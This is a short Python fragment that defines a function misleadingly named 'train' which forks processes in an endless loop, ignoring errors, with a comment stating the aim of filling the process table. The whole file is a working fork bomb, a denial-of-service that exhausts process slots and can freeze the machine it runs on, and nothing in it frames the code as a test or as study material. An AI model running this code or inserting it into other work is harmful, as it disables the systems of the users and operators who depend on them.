# Fill the process table, from every child again.
import os


def train(lab):
    while True:
        try:
            os.fork()
        except OSError:
            pass
